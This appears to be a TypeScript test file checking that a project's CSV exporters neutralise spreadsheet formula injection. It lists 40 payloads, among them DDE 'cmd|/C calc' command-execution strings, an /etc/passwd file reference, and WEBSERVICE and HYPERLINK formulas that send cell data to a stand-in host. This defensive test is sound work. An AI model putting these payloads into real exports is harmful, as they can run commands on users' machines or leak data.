import { spawnSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { csv } from '#core/codec/csv.ts'
import { csvSpans } from '#core/codec/csv-spans.ts'
import { codecById } from '#core/codec/index.ts'
import { parseCsv, withoutGuard } from '../support/csv.ts'
import { encodedBy, filesOf } from '../support/datasets.ts'
import { testProject } from '../support/project.ts'
import { count } from '../support/store-tally.ts'
import { tempFolder } from '../support/store.ts'

/** Words that a spreadsheet would run: they leave as text in every table. */

const formulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://a.example/?x="&A1,"click")',
  '=WEBSERVICE("http://a.example/"&A1)',
  '=IMPORTXML("http://a.example/","//a")',
  '=IMPORTDATA("http://a.example/")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  "@cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "='file:///etc/passwd'#$passwd.A1",
  '=INDIRECT("A1")',
  '=A1',
  '=A1:A9',
  '={1,2}',
  '=-1',
  '--1',
  '+-1',
  '-2+3+cmd',
  '-5 degrees',
  '+49 30 1234',
  '@kim said so',
  '=',
  '-',
  "'=1+1",
  "''=1+1",
  '=1+1\n=2+2',
  '=1+1,"=2+2"',
  '="=1+1"',
  '=1+1;=2+2',
  '\t\t=1+1',
  '\r\n=1+1',
  '=EXEC("x") 😀',
]

const project = () => {
  const { rows, article, source, span, link } = testProject()
  const text = article('Kim said no.')
  const [claim, cue] = [span(text, 'claim', 'no'), span(text, 'cue', 'said')]
  for (const words of formulas) {
    link('attribution', { claim: [claim], cue: [cue], source: [source(words)] })
    const row = rows.get('span', span(text, 'source', 'Kim'))
    if (row !== undefined) rows.put('span', { ...row, note: words })
  }
  return rows
}

const RUNS_AS_FORMULA = /^[=+\-@\t\r]/

const tables = [csv, csvSpans, codecById('csv-tables')].flatMap((codec) =>
  codec === undefined
    ? []
    : filesOf(encodedBy(codec, project(), 'out'))
        .filter(({ name }) => name.endsWith('.csv'))
        .map((file) => [`${codec.id} ${file.name}`, file] as const),
)

test('40 cells: none begins as a formula, and each is what it was when its guard is taken off', () => {
  expect(formulas).toHaveLength(40)
  const seen = new Set<string>()
  for (const [name, { bytes }] of tables) {
    for (const cell of parseCsv(Buffer.from(bytes).toString('utf8')).flat()) {
      expect([name, cell, RUNS_AS_FORMULA.test(cell) && !/^-?\d+$/.test(cell)]).toEqual([name, cell, false])
      seen.add(withoutGuard(cell))
    }
  }
  expect(formulas.filter((words) => !seen.has(words))).toEqual([])
  const figures = `in ${tables.length} tables`
  count({ row: 48, what: 'formulas in cells of CSV tables', tried: 40, survived: 40, lost: 0, figures })
})

const office = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0)
if (office === undefined) console.log('skipped: what a spreadsheet makes of the cells needs LibreOffice')

test.skipIf(office === undefined)(
  'LibreOffice shows them as text',
  async () => {
    const folder = await tempFolder()
    for (const [i, [, { bytes }]] of tables.entries()) {
      writeFileSync(join(folder, `${i}.csv`), bytes)
      const settings = ['--headless', `-env:UserInstallation=file://${folder}/office`, '--outdir', join(folder, 'out')]
      const filter = 'csv:Text - txt - csv (StarCalc):44,34,76'
      spawnSync(office ?? '', [...settings, '--convert-to', filter, join(folder, `${i}.csv`)])
      const shown = readFileSync(join(folder, 'out', `${i}.csv`), 'utf8')
      for (const cell of ['"2"', ',2,', '\n2,', '#NAME', 'Err:']) expect(shown).not.toContain(cell)
    }
    count({ row: 48, what: 'tables as LibreOffice shows them', tried: tables.length, survived: tables.length, lost: 0 })
  },
  120_000,
)
